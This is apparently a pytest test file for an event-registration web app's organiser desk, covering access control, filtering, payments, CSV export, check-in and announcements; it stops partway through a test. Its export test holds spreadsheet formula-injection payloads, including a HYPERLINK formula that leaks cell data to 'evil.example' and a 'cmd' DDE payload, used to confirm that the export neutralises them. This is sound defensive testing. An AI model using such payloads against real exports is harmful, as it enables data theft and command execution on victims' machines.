"""The organiser's registration desk: lists, decisions, edits, export, statistics, check-in, settings, mail."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from conftest import csrf_token
from helpers import IN_PERSON, body, count, field_error, text_of
from sqlalchemy import select, update

from eventmgr.audit.models import AuditEntry
from eventmgr.errors import EventMgrError, PermissionDenied
from eventmgr.events import services as event_services
from eventmgr.events.models import Event, EventRole
from eventmgr.mail.models import MailMessage
from eventmgr.registration import desk as desk_services
from eventmgr.registration import services
from eventmgr.registration.models import Announcement, Invitation, OfferCode, Payment, Registration

# --- Helpers ---------------------------------------------------------------------------------------


def fresh(db, registration) -> Registration:
    db.session.expire_all()
    return db.session.get(Registration, registration.id)


def listed_emails(response) -> set[str]:
    """The addresses in the desk's table of registrations."""
    return set(re.findall(r'<span class="muted">([^<@]+@[^<]+)</span>', response.text))


@pytest.fixture
def organiser(make_user):
    return make_user(email="olga@example.org", name="Olga Organiser")


@pytest.fixture
def desk_event(make_event, organiser, login):
    """A published in-person conference of the logged-in organiser (its delegates have needs, badges, codes)."""
    event = make_event(organiser=organiser, **IN_PERSON)
    login(organiser)
    return event


def desk(event, path=""):
    return f"/manage/events/{event.id}{path}"


# --- Who may use the desk --------------------------------------------------------------------------


def desk_urls(app, event, registration, question):
    """Every desk route of the event, as (method, url), with real ids filled in."""
    values = {"event_id": event.id, "registration_id": registration.id, "question_id": question.id}
    actions = {"registration_desk.registration_action": "approve", "registration_desk.question_action": "up"}
    urls = []
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("registration_desk."):
            continue
        args = {key: values[key] for key in rule.arguments if key in values}
        if "action" in rule.arguments:
            args["action"] = actions[rule.endpoint]
        path = rule.build(args)[1]
        for method in sorted(rule.methods & {"GET", "POST"}):
            urls.append((method, path))
    return urls


@pytest.fixture
def guarded(app, db, make_event, make_user, organiser, make_registration):
    """An event with a registration and a question, and every desk URL of it."""
    event = make_event(organiser=organiser, registration_policy="approval")
    registration = make_registration(event, "aida@example.kz")
    question = services.add_question(event, {"label": "Role", "kind": "short_text"})
    db.session.commit()
    urls = desk_urls(app, event, registration, question)
    assert len(urls) >= 12, urls  # every desk page, found by walking the URL map
    return event, registration, urls


def any_token(client) -> str:
    """A CSRF token of the client's session, logged in (the log-out form) or not (the log-in form)."""
    match = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text)
    return match.group(1) if match else csrf_token(client, "/login")


def request(client, method, url):
    if method == "GET":
        return client.get(url)
    return client.post(url, data={"csrf_token": any_token(client), "action": "approve", "ids": "1", "q": "x"})


def test_anonymous_visitors_are_sent_to_log_in(client, db, guarded):
    event, registration, urls = guarded
    for method, url in urls:
        response = request(client, method, url)
        assert response.status_code == 302, (method, url)
        assert "/login" in response.location, (method, url)
    assert fresh(db, registration).status == "pending"


@pytest.mark.parametrize("who", ["stranger", "secretariat", "organiser of another event"])
def test_no_desk_page_is_reachable_without_organising_the_event(client, db, make_user, make_event, login, guarded, who):
    event, registration, urls = guarded
    user = make_user(email=f"{who.replace(' ', '-')}@example.org")
    if who == "secretariat":
        db.session.add(EventRole(event_id=event.id, user_id=user.id, role="secretariat"))
        db.session.commit()
    elif who == "organiser of another event":
        make_event(organiser=user, title="Their own event")
    login(user)
    for method, url in urls:
        response = request(client, method, url)
        assert response.status_code in (403, 404), (method, url, response.status_code)
        assert "aida@example.kz" not in response.get_data(as_text=True)
    assert fresh(db, registration).status == "pending"
    assert count(db, MailMessage, MailMessage.subject.like("Registration approved%")) == 0


def test_a_private_events_desk_is_not_found_for_strangers(client, db, make_event, make_user, login, organiser):
    event = make_event(organiser=organiser, visibility="private")
    login(make_user())
    assert client.get(desk(event, "/registrations")).status_code == 404


def test_the_organiser_reaches_every_desk_page(client, db, login, organiser, guarded):
    event, registration, urls = guarded
    login(organiser)
    for method, url in urls:
        if method == "GET":
            assert client.get(url).status_code == 200, url


def test_a_registration_of_another_event_is_not_found_through_this_one(
    client, db, make_event, organiser, login, make_registration
):
    mine = make_event(organiser=organiser, registration_policy="approval")
    theirs = make_event(title="Other event", registration_policy="approval")
    other = make_registration(theirs, "bakyt@example.kg")
    login(organiser)
    assert client.get(desk(mine, f"/registrations/{other.id}")).status_code == 404
    token = any_token(client)
    response = client.post(desk(mine, f"/registrations/{other.id}/approve"), data={"csrf_token": token})
    assert response.status_code == 404
    assert fresh(db, other).status == "pending"


# --- The list ---------------------------------------------------------------------------------------


@pytest.fixture
def crowd(db, desk_event, make_organisation, make_registration):
    """Four registrations from three countries, two kinds of organisation and one named new."""
    event = desk_event
    border = make_organisation("State Border Service", kind="border_agency", country_code="KZ")
    ministry = make_organisation("Ministry of Internal Affairs", kind="ministry", country_code="KG")
    session = services.add_question(
        event, {"label": "Session", "kind": "single_choice", "options": ["Morning", "Afternoon"]}
    )
    topics = services.add_question(
        event, {"label": "Topics", "kind": "multiple_choice", "options": ["Risk analysis", "Data sharing"]}
    )
    speaker = services.add_question(event, {"label": "Will you speak?", "kind": "yes_no"})
    event.capacity = 3
    db.session.commit()
    people = {
        "dina": make_registration(
            event,
            "dina@example.kz",
            given_name="Дина",
            family_name="Омарова",
            country="KZ",
            organisation_id=border.id,
            answers={
                str(session.id): "Morning",
                str(topics.id): ["Risk analysis", "Data sharing"],
                str(speaker.id): "yes",
            },
        ),
        "bakyt": make_registration(
            event,
            "bakyt@example.kg",
            given_name="Bakyt",
            family_name="Mamytov",
            country="KG",
            organisation_id=ministry.id,
            answers={str(session.id): "Afternoon", str(speaker.id): "no"},
        ),
        "aidar": make_registration(
            event,
            "aidar@example.kz",
            given_name="Aidar",
            family_name="Seitov",
            country="KZ",
            organisation_id=border.id,
            answers={str(session.id): "Afternoon"},
        ),
        "nodira": make_registration(
            event,
            "nodira@example.uz",
            given_name="Nodira",
            family_name="Karimova",
            country="UZ",
            organisation_name="Customs Academy",
            delegation="Uzbekistan",
            answers={str(topics.id): ["Data sharing"]},
        ),
    }
    assert people["nodira"].status == "waitlisted"
    return (
        event,
        people,
        {"session": session, "topics": topics, "speaker": speaker, "border": border, "ministry": ministry},
    )


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", {"dina", "bakyt", "aidar", "nodira"}),
        ("status=waitlisted", {"nodira"}),
        ("status=confirmed", {"dina", "bakyt", "aidar"}),
        ("country=KZ", {"dina", "aidar"}),
        ("country=UZ", {"nodira"}),
        ("organisation_id=border", {"dina", "aidar"}),
        ("organisation_id=ministry", {"bakyt"}),
        ("question=session&answer=Afternoon", {"bakyt", "aidar"}),
        ("question=topics&answer=Data sharing", {"dina", "nodira"}),
        ("question=speaker&answer=yes", {"dina"}),
        ("q=омар", {"dina"}),
        ("q=ОМАРОВА", {"dina"}),
        ("q=Дина Омарова", {"dina"}),
        ("q=mamytov", {"bakyt"}),
        ("q=nodira@example", {"nodira"}),
        ("q=customs academy", {"nodira"}),
        ("q=nobody", set()),
        ("status=confirmed&country=KZ&q=seitov", {"aidar"}),
    ],
)
def test_the_list_filters_and_searches(client, crowd, query, expected):
    event, people, things = crowd
    for name, thing in things.items():
        query = query.replace(f"={name}", f"={thing.id}")
    response = client.get(desk(event, f"/registrations?{query}"))
    assert response.status_code == 200
    assert listed_emails(response) == {people[name].email for name in expected}
    noun = "registration" if len(expected) == 1 else "registrations"
    assert f"{len(expected)} {noun}" in response.text


def test_the_list_counts_each_status(client, crowd):
    event, people, things = crowd
    page = text_of(client.get(desk(event, "/registrations")))
    assert "Confirmed: 3" in page and "On the waiting list: 1" in page and "Seats: 3" in page


def test_bulk_approve_and_decline(client, db, make_event, organiser, login, mailbox, make_registration):
    event = make_event(organiser=organiser, registration_policy="approval")
    aida, bakyt, nodira = (
        make_registration(event, email) for email in ("aida@example.kz", "bakyt@example.kg", "nodira@example.uz")
    )
    login(organiser)
    url = desk(event, "/registrations")
    response = client.post(
        desk(event, "/registrations/bulk"),
        headers={"Referer": url},
        data={"csrf_token": csrf_token(client, url), "action": "approve", "ids": [aida.id, bakyt.id]},
    )
    assert response.status_code == 302
    assert "2 decided, 0 left as they were." in client.get(response.location).text
    client.post(
        desk(event, "/registrations/bulk"),
        data={"csrf_token": csrf_token(client, url), "action": "decline", "ids": [nodira.id, aida.id]},
    )
    assert [fresh(db, r).status for r in (aida, bakyt, nodira)] == ["confirmed", "confirmed", "declined"]
    mailbox.deliver()
    subjects = sorted((m["To"], m["Subject"].split(":")[0]) for m in mailbox.messages if "awaiting" not in m["Subject"])
    assert subjects == [
        ("aida@example.kz", "Registration approved"),
        ("bakyt@example.kg", "Registration approved"),
        ("nodira@example.uz", "Registration declined"),
    ]


def test_a_bulk_decision_with_a_foreign_id_changes_nothing(client, db, make_event, organiser, login, make_registration):
    event = make_event(organiser=organiser, registration_policy="approval")
    other = make_event(title="Other", registration_policy="approval")
    mine, theirs = make_registration(event, "aida@example.kz"), make_registration(other, "bakyt@example.kg")
    login(organiser)
    response = client.post(
        desk(event, "/registrations/bulk"),
        data={"csrf_token": any_token(client), "action": "approve", "ids": [mine.id, theirs.id]},
    )
    assert response.status_code == 404
    assert fresh(db, mine).status == "pending" and fresh(db, theirs).status == "pending"
    bad = client.post(
        desk(event, "/registrations/bulk"), data={"csrf_token": any_token(client), "action": "delete", "ids": [mine.id]}
    )
    assert bad.status_code == 400


@pytest.mark.parametrize(
    "action, status, subject",
    [("approve", "confirmed", "Registration approved"), ("decline", "declined", "Registration declined")],
)
def test_a_decision_carries_the_organisers_message(
    client, db, make_event, organiser, login, mailbox, action, status, subject, make_registration
):
    event = make_event(organiser=organiser, registration_policy="approval")
    aida = make_registration(event, "aida@example.kz")
    login(organiser)
    page = desk(event, f"/registrations/{aida.id}")
    response = client.post(
        f"{page}/{action}", data={"csrf_token": csrf_token(client, page), "message": "Please bring your passport."}
    )
    outcome = {"confirmed": "Approved: Aida Delegate is confirmed", "declined": "Declined: Aida Delegate"}[status]
    assert response.status_code == 302 and outcome in client.get(response.location).text
    assert fresh(db, aida).status == status
    mailbox.deliver()
    (message,) = [m for m in mailbox.messages if m["Subject"].startswith(subject)]
    assert "Please bring your passport." in body(message)
    manage = client.get(f"/events/{event.slug}/registration/{aida.access_token}").text
    assert "Please bring your passport." in manage


# --- One registration -------------------------------------------------------------------------------


def test_the_organiser_edits_a_registration(client, db, crowd):
    event, people, things = crowd
    dina = people["dina"]
    page = desk(event, f"/registrations/{dina.id}")
    shown = client.get(page)
    assert shown.status_code == 200 and 'value="Омарова"' in shown.text and "dina@example.kz" in shown.text
    data = {
        "csrf_token": csrf_token(client, page),
        "given_name": "Dina",
        "family_name": "Omarova",
        "email": "changed@example.org",
        "country": "KG",
        "position": "Chief of staff",
        "organisation_id": str(things["ministry"].id),
        f"q_{things['session'].id}": "Afternoon",
        f"q_{things['speaker'].id}": "no",
    }
    response = client.post(page, data=data)
    assert response.status_code == 302 and "Saved." in client.get(response.location).text
    dina = fresh(db, dina)
    assert (dina.given_name, dina.family_name, dina.country, dina.position) == (
        "Dina",
        "Omarova",
        "KG",
        "Chief of staff",
    )
    assert dina.organisation_id == things["ministry"].id and dina.email == "dina@example.kz"
    assert dina.answers[str(things["session"].id)] == "Afternoon"
    assert dina.answers[str(things["speaker"].id)] is False
    assert str(things["topics"].id) not in dina.answers  # no box ticked: the answer is cleared


@pytest.mark.parametrize("field, value", [("family_name", ""), ("country", "XX"), ("organisation_id", "999999")])
def test_a_bad_edit_on_the_desk_is_refused_at_its_field(client, db, desk_event, field, value, make_registration):
    aida = make_registration(desk_event, "aida@example.kz", given_name="Aida", family_name="Nurlanova")
    page = desk(desk_event, f"/registrations/{aida.id}")
    data = {
        "csrf_token": csrf_token(client, page),
        "given_name": "Changed",
        "family_name": "Nurlanova",
        "email": "aida@example.kz",
        "country": "KZ",
    } | {field: value}
    response = client.post(page, data=data)
    assert response.status_code == 422 and field_error(response, field)
    aida = fresh(db, aida)
    assert (aida.given_name, aida.family_name, aida.country) == ("Aida", "Nurlanova", "KZ")


def test_payments_are_recorded_and_the_balance_shown(client, db, make_event, organiser, login, make_registration):
    event = make_event(organiser=organiser, fee=Decimal("200"))
    db.session.add(OfferCode(event_id=event.id, code="QUARTER", discount_kind="percent", discount=Decimal("25")))
    db.session.commit()
    aida = make_registration(event, "aida@example.kz", offer_code="quarter")
    assert aida.amount_due == Decimal("150.00")
    login(organiser)
    page = desk(event, f"/registrations/{aida.id}")
    assert "Due: €150.00 · Paid: €0.00 · Balance: €150.00" in text_of(client.get(page))
    client.post(
        f"{page}/payment",
        data={
            "csrf_token": csrf_token(client, page),
            "amount": "100",
            "method": "Bank transfer",
            "reference": "KZ-2291",
        },
    )
    shown = text_of(client.get(page))
    assert "Due: €150.00 · Paid: €100.00 · Balance: €50.00" in shown
    assert "Bank transfer" in shown and "KZ-2291" in shown
    for bad in ("0", "-5", "abc", ""):
        client.post(f"{page}/payment", data={"csrf_token": csrf_token(client, page), "amount": bad})
    assert count(db, Payment) == 1
    client.post(f"{page}/payment", data={"csrf_token": csrf_token(client, page), "amount": "50.00"})
    assert "Paid: €150.00 · Balance: €0.00" in text_of(client.get(page))
    aida = fresh(db, aida)
    assert aida.amount_paid == Decimal("150.00") and aida.balance == Decimal("0.00")
    assert aida.payments[0].recorded_by_id == organiser.id
    export = client.get(desk(event, "/registrations.csv")).data.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(export)))
    assert (row["amount_due"], row["amount_paid"], row["offer_code"]) == ("150.00", "150.00", "QUARTER")


def test_the_desk_cancels_and_the_waiting_list_moves_up(
    client, db, make_event, organiser, login, mailbox, make_registration
):
    event = make_event(organiser=organiser, online_capacity=1)
    aida, bakyt = make_registration(event, "aida@example.kz"), make_registration(event, "bakyt@example.kg")
    login(organiser)
    page = desk(event, f"/registrations/{aida.id}")
    client.post(f"{page}/cancel", data={"csrf_token": csrf_token(client, page)})
    assert (fresh(db, aida).status, fresh(db, bakyt).status) == ("cancelled", "confirmed")
    mailbox.deliver()
    assert any(m["To"] == "bakyt@example.kg" and m["Subject"].startswith("A seat is free") for m in mailbox.messages)


# --- Export and statistics --------------------------------------------------------------------------


def test_the_csv_export_has_every_field_and_answer(client, crowd):
    event, people, things = crowd
    response = client.get(desk(event, "/registrations.csv"))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    text = response.data.decode("utf-8")
    assert "Омарова" in text and "Дина" in text
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == 4
    header = list(rows[0])
    for column in (
        "status",
        "given_name",
        "family_name",
        "email",
        "organisation",
        "country",
        "delegation",
        "needs_visa_letter",
        "dietary_needs",
        "amount_due",
        "checked_in_at",
    ):
        assert column in header
    assert header[-3:] == ["Session", "Topics", "Will you speak?"]
    dina = next(row for row in rows if row["email"] == "dina@example.kz")
    assert (dina["given_name"], dina["family_name"], dina["organisation"], dina["country"]) == (
        "Дина",
        "Омарова",
        "State Border Service",
        "KZ",
    )
    assert (dina["Session"], dina["Topics"], dina["Will you speak?"]) == (
        "Morning",
        "Risk analysis; Data sharing",
        "yes",
    )
    nodira = next(row for row in rows if row["email"] == "nodira@example.uz")
    assert (nodira["status"], nodira["organisation"], nodira["delegation"], nodira["Session"]) == (
        "waitlisted",
        "Customs Academy",
        "Uzbekistan",
        "",
    )


def test_the_export_streams_in_chunks_of_many_rows(app, client, crowd, monkeypatch):
    """Rows are sent on a few hundred at a time: memory stays flat, and the socket gets few large writes."""
    from eventmgr import spreadsheets
    from eventmgr.registration import desk as desk_service

    event, _people, _things = crowd
    whole = client.get(desk(event, "/registrations.csv")).data.decode("utf-8")
    monkeypatch.setattr(spreadsheets, "CSV_CHUNK", 300)  # about two rows
    with app.test_request_context():
        chunks = list(spreadsheets.csv_text(*desk_service.export_table(event, {})))
    assert 3 <= len(chunks) <= 4  # the header, then rows two or so at a time, not one chunk per row
    assert "".join(chunks) == whole


#: What delegates and organisers type, and what the export holds for it.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1)": "'@SUM(1)",
    # A tab or line break is a separator too: the sign after it gets its own quote.
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    # A spreadsheet splitting on ";" (or ignoring the quotes) would start a cell after the separator.
    "Aida;=1+1": "Aida;'=1+1",
    'x","=1+1': 'x","\'=1+1',
}


def test_no_cell_of_the_export_can_run_as_a_formula(client, db, desk_event, make_registration):
    """Names, labels, answers and codes typed by anyone come back as text; the app's own numbers stay numbers."""
    event = desk_event
    event.fee = Decimal("100")
    labels = list(HOSTILE)[:4]
    questions = [services.add_question(event, {"label": label, "kind": "short_text"}) for label in labels]
    choice = services.add_question(event, {"label": "Topics", "kind": "multiple_choice", "options": ["=1+1", "@A1"]})
    offer = OfferCode(event_id=event.id, code="-SUM", discount_kind="fixed", discount=Decimal("10"))
    db.session.add(offer)
    db.session.commit()
    for n, value in enumerate(HOSTILE):
        make_registration(
            event,
            f"d{n}@example.org",
            given_name=value,
            family_name=value,
            position=value,
            organisation_name=value,
            delegation=value,
            dietary_needs=value,
            accessibility_needs=value,
            offer_code="-SUM" if n == 0 else None,
            answers={str(q.id): value for q in questions} | {str(choice.id): ["=1+1", "@A1"]},
        )
    raw = client.get(desk(event, "/registrations.csv")).data.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(raw)))
    header, body_rows = rows[0], rows[1:]
    assert header[-5:] == [HOSTILE[label] for label in labels] + ["Topics"]
    assert len(body_rows) == len(HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    by_email = {row[header.index("email")]: dict(zip(header, row, strict=True)) for row in body_rows}
    for n, (value, shown) in enumerate(HOSTILE.items()):
        row = by_email[f"d{n}@example.org"]
        for column in (
            "given_name",
            "family_name",
            "position",
            "organisation",
            "delegation",
            "dietary_needs",
            "accessibility_needs",
        ):
            assert row[column] == shown, (column, row[column])
        trimmed = "'=1+1" if value.strip() == "=1+1" else shown  # answers are kept trimmed
        assert row[header[-5]] == trimmed, value
        assert row["Topics"] == "'=1+1; '@A1"
    assert by_email["d0@example.org"]["offer_code"] == "'-SUM"
    # The app's own numbers are written bare, so spreadsheets read them as numbers; all text is quoted.
    with_code = next(line for line in raw.splitlines() if '"d0@example.org"' in line)
    assert re.match(r'\d+,"confirmed",', with_code)
    assert re.search(r',90\.00,0,"', with_code)
    # Split on any separator, heeding no quotes, as the crudest spreadsheet in another locale would: still no
    # piece starts a formula.
    for piece in re.split(r"[,;\t\r\n|]", raw):
        assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece


def test_the_export_follows_the_filters(client, crowd):
    event, people, things = crowd
    text = client.get(desk(event, "/registrations.csv?status=confirmed&country=KZ")).data.decode("utf-8-sig")
    assert sorted(row["email"] for row in csv.DictReader(io.StringIO(text))) == ["aidar@example.kz", "dina@example.kz"]
    text = client.get(desk(event, f"/registrations.csv?question={things['session'].id}&answer=Afternoon")).data.decode(
        "utf-8-sig"
    )
    assert sorted(row["email"] for row in csv.DictReader(io.StringIO(text))) == ["aidar@example.kz", "bakyt@example.kg"]


def test_statistics_by_country_and_kind_of_organisation(client, db, crowd):
    event, people, things = crowd
    services.check_in(people["dina"], None)
    services.cancel(people["aidar"])  # Nodira moves up: confirmed, with a new organisation
    db.session.commit()
    page = client.get(desk(event, "/registrations/statistics"))
    assert page.status_code == 200
    rows = re.findall(r"<tr><td>([^<]+)</td><td>(\d+)</td><td>(\d+)</td></tr>", page.text)
    assert ("Kazakhstan", "1", "1") in rows
    assert ("Kyrgyzstan", "1", "0") in rows
    assert ("Uzbekistan", "1", "0") in rows
    assert ("Border agency", "1", "1") in rows
    assert ("Ministry or government body", "1", "0") in rows
    assert ("Not in the directory", "1", "0") in rows
    assert len(rows) == 6
    assert "Confirmed: 3 · Attended: 1 · Waiting list: 0" in text_of(page)


# --- Check-in and attendance -------------------------------------------------------------------------


def running_today(db, event) -> None:
    """Move the event to now, so that the desk's check-in window is open."""
    now = datetime.now(UTC)
    db.session.execute(
        update(Event)
        .where(Event.id == event.id)
        .values(start_at=now - timedelta(minutes=30), end_at=now + timedelta(hours=2))
    )
    db.session.commit()
    db.session.expire_all()


def test_check_in_by_name(client, db, crowd, organiser):
    event, people, things = crowd
    running_today(db, event)
    url = desk(event, "/check-in")
    found = client.get(f"{url}?q=омар")
    assert "Дина Омарова" in found.text and "Bakyt" not in found.text
    assert f"/check-in/{people['dina'].id}" in found.text
    assert "Nobody confirmed matches." in client.get(f"{url}?q=karimova").text  # waitlisted, not confirmed
    action = desk(event, f"/check-in/{people['dina'].id}")
    done = client.post(action, data={"csrf_token": csrf_token(client, url)})
    # Back to the scan field, not to the registration's page.
    assert done.location.startswith(url) and f"last={people['dina'].id}" in done.location
    first = fresh(db, people["dina"]).checked_in_at
    assert first is not None and fresh(db, people["dina"]).checked_in_by_id == organiser.id
    again = client.post(action, data={"csrf_token": csrf_token(client, url)})
    assert "Дина Омарова was already checked in" in client.get(again.location).text
    assert fresh(db, people["dina"]).checked_in_at == first
    assert "Checked in so far: 1" in text_of(client.get(url))


def test_check_in_by_the_scanned_token_records_attendance_once(client, db, crowd):
    event, people, things = crowd
    running_today(db, event)
    url = desk(event, "/check-in")
    token = people["bakyt"].access_token
    first = client.post(url, data={"csrf_token": csrf_token(client, url), "q": token}, follow_redirects=True)
    assert first.status_code == 200 and "Bakyt Mamytov checked in." in first.text
    checked_at = fresh(db, people["bakyt"]).checked_in_at
    second = client.post(url, data={"csrf_token": csrf_token(client, url), "q": token}, follow_redirects=True)
    assert "Bakyt Mamytov was already checked in" in second.text
    assert fresh(db, people["bakyt"]).checked_in_at == checked_at
    assert services.attendance_count(event.id) == 1
    # Looking a token up (GET) checks nobody in; a waitlisted delegate's code checks nobody in.
    client.get(f"{url}?q={people['dina'].access_token}")
    client.post(url, data={"csrf_token": csrf_token(client, url), "q": people["nodira"].access_token})
    db.session.expire_all()
    assert services.attendance_count(event.id) == 1
    assert fresh(db, people["nodira"]).checked_in_at is None


def test_a_token_of_another_event_checks_nobody_in(client, db, desk_event, make_event, make_registration):
    running_today(db, desk_event)
    other = make_event(title="Other")
    stranger = make_registration(other, "stranger@example.org")
    url = desk(desk_event, "/check-in")
    response = client.post(
        url, data={"csrf_token": csrf_token(client, url), "q": stranger.access_token}, follow_redirects=True
    )
    assert "No registration of this event has the code" in response.text
    assert fresh(db, stranger).checked_in_at is None


def test_the_public_page_shows_attendance_after_the_event(client, db, make_event, organiser, make_registration):
    now = datetime.now(UTC)
    event = make_event(organiser=organiser, start_at=now + timedelta(hours=1), end_at=now + timedelta(hours=3))
    people = [make_registration(event, f"d{n}@example.org") for n in range(3)]
    for registration in people[:2]:
        services.check_in(registration, organiser)
    db.session.commit()
    assert "Attended (" not in client.get(f"/events/{event.slug}").text
    db.session.execute(
        update(Event)
        .where(Event.id == event.id)
        .values(start_at=now - timedelta(days=2), end_at=now - timedelta(days=2) + timedelta(hours=2))
    )
    db.session.commit()
    page = client.get(f"/events/{event.slug}")
    assert "Attended (2)" in page.text
    assert "d0@example.org" not in page.text


def test_only_the_events_organisers_check_in_and_not_once_it_is_cancelled(
    client, db, crowd, organiser, make_user, make_event
):
    event, people, things = crowd
    running_today(db, event)
    stranger = make_user(email="stranger@example.org")
    assert services.check_in_refusal(people["dina"], organiser) is None
    assert services.check_in_refusal(people["dina"], None) is None  # the system itself
    with pytest.raises(PermissionDenied):
        services.check_in(people["dina"], stranger)
    with pytest.raises(EventMgrError, match="only confirmed delegates"):
        services.check_in(people["nodira"], organiser)  # waitlisted
    db.session.rollback()
    assert fresh(db, people["dina"]).checked_in_at is None

    url = desk(event, "/check-in")
    token = people["dina"].access_token
    assert f"/check-in/{people['dina'].id}" in client.get(f"{url}?q={token}").text
    event_services.cancel_event(db.session.get(Event, event.id), organiser, "Postponed.")
    db.session.commit()
    with pytest.raises(EventMgrError, match="cancelled"):
        services.check_in(fresh(db, people["dina"]), organiser)
    db.session.rollback()
    # Neither the scanner, nor a button (there is none now), nor the registration's own page checks anyone in.
    scanned = client.post(url, data={"csrf_token": csrf_token(client, url), "q": token}, follow_redirects=True)
    assert "The event is cancelled: nobody can be checked in." in scanned.text
    assert f"/check-in/{people['dina'].id}" not in client.get(f"{url}?q={token}").text
    page = desk(event, f"/registrations/{people['dina'].id}")
    assert f"{page}/check-in" not in client.get(page).text
    refused = client.post(f"{page}/check-in", data={"csrf_token": csrf_token(client, url)}, follow_redirects=True)
    assert "The event is cancelled: nobody can be checked in." in refused.text
    assert fresh(db, people["dina"]).checked_in_at is None and services.attendance_count(event.id) == 0


# --- The public participant list ---------------------------------------------------------------------


def test_the_participant_list_shows_only_opted_in_confirmed_delegates(
    client, db, make_event, organiser, make_organisation, make_registration
):
    event = make_event(organiser=organiser, online_capacity=2, publish_participant_list=True)
    ministry = make_organisation("Ministry of Foreign Affairs", kind="ministry")
    make_registration(
        event,
        "listed@example.kz",
        given_name="Aigerim",
        family_name="Listed",
        list_publicly=True,
        organisation_id=ministry.id,
    )
    make_registration(event, "private@example.kz", given_name="Private", family_name="Person", list_publicly=False)
    make_registration(event, "waiting@example.kg", given_name="Waiting", family_name="Person", list_publicly=True)
    cancelled = make_registration(make_event(title="Other", online_capacity=5), "gone@example.uz", list_publicly=True)
    services.cancel(cancelled)
    db.session.commit()
    gone_here = make_registration(event, "gone@example.uz", given_name="Gone", family_name="Person", list_publicly=True)
    services.cancel(gone_here)
    db.session.commit()
    page = client.get(f"/events/{event.slug}/participants")
    assert page.status_code == 200
    text = page.text
    assert "Aigerim Listed" in text and "Ministry of Foreign Affairs" in text and "Kazakhstan" in text
    for hidden in ("Private Person", "Waiting Person", "Gone Person", "@example"):
        assert hidden not in text
    assert f"/events/{event.slug}/participants" in client.get(f"/events/{event.slug}").text


def test_the_participant_list_is_not_published_unless_chosen(client, db, make_event, make_registration):
    event = make_event()
    make_registration(event, "aida@example.kz", list_publicly=True)
    assert client.get(f"/events/{event.slug}/participants").status_code == 404
    assert f"/events/{event.slug}/participants" not in client.get(f"/events/{event.slug}").text


# --- Announcements ------------------------------------------------------------------------------------


def send_announcement(client, event, data):
    """Preview an announcement, then confirm it with the keys the preview gave (the desk's two steps)."""
    url = desk(event, "/announcements")
    form = {"csrf_token": csrf_token(client, url)} | data
    preview = client.post(url, data=form | {"preview": "1"})
    keys = dict(re.findall(r'name="(audience_key|content_key)" type="hidden" value="([^"]*)"', preview.text))
    assert keys, preview.text
    return client.post(url, data=form | keys | {"send": "1"})


def test_announcements_go_to_the_filtered_registrants_through_the_outbox(
    app, client, db, crowd, mailbox, monkeypatch, make_registration
):
    event, people, things = crowd
    erlan = make_registration(event, "erlan@example.kz", given_name="Erlan", family_name="Abenov")
    services.cancel(erlan)  # cancelled delegates are not written to
    db.session.commit()
    mailbox.deliver()
    before = len(mailbox.messages)
    monkeypatch.setitem(app.config, "MAIL_SEND_AFTER_REQUEST", False)  # watch the queue before it is sent
    assert client.get(desk(event, "/announcements?country=KZ")).status_code == 200
    response = send_announcement(
        client, event, {"country": "KZ", "subject": "Visa letters", "body": "Your letters are ready."}
    )
    assert response.status_code == 302
    queued = db.session.execute(select(MailMessage).where(MailMessage.announcement_id.is_not(None))).scalars().all()
    assert sorted(m.recipient for m in queued) == ["aidar@example.kz", "dina@example.kz"]
    progress = text_of(client.get(desk(event, "/announcements")))
    assert "Sending to 2 people." in progress and "2 recipients" in progress
    assert "Visa letters" in progress and "0 sent, 2 waiting, 0 failed" in progress

    send_announcement(
        client, event, {"status": "waitlisted", "subject": "Waiting list news", "body": "A larger room is booked."}
    )
    assert mailbox.deliver() == 3
    progress = text_of(client.get(desk(event, "/announcements")))
    assert "2 sent, 0 waiting, 0 failed" in progress and "1 sent, 0 waiting, 0 failed" in progress
    new = mailbox.messages[before:]
    assert sorted((m["To"], m["Subject"]) for m in new) == [
        ("aidar@example.kz", f"Visa letters · {event.title}"),
        ("dina@example.kz", f"Visa letters · {event.title}"),
        ("nodira@example.uz", f"Waiting list news · {event.title}"),
    ]
    to_dina = next(m for m in new if m["To"] == "dina@example.kz")
    assert "Dear Дина Омарова" in body(to_dina) and "Your letters are ready." in body(to_dina)
    assert count(db, Announcement) == 2


def test_an_announcement_to_nobody_is_refused(client, db, desk_event, make_registration):
    make_registration(desk_event, "aida@example.kz")
    url = desk(desk_event, "/announcements")
    response = client.post(
        url, data={"csrf_token": csrf_token(client, url), "country": "UZ", "subject": "Hello", "body": "Hi"}
    )
    assert response.status_code == 422 and "No registration matches these filters." in response.text
    assert count(db, Announcement) == 0 and count(db, MailMessage, MailMessage.subject.like("Hello%")) == 0
    empty = client.post(url, data={"csrf_token": csrf_token(client, url), "subject": "", "body": ""})
    assert empty.status_code == 422 and field_error(empty, "subject") and field_error(empty, "body")


# --- Settings: seats, questions, offer codes, invitations ---------------------------------------------


def settings_post(client, event, data):
    url = desk(event, "/registration-settings")
    return client.post(url, data={"csrf_token": csrf_token(client, url)} | data)


def test_raising_capacity_on_the_settings_page_moves_the_list_up(
    client, db, make_event, organiser, login, mailbox, make_registration
):
    event = make_event(organiser=organiser, online_capacity=1)
    people = [make_registration(event, f"d{n}@example.org") for n in range(4)]
    mailbox.deliver()
    before = len(mailbox.messages)
    login(organiser)
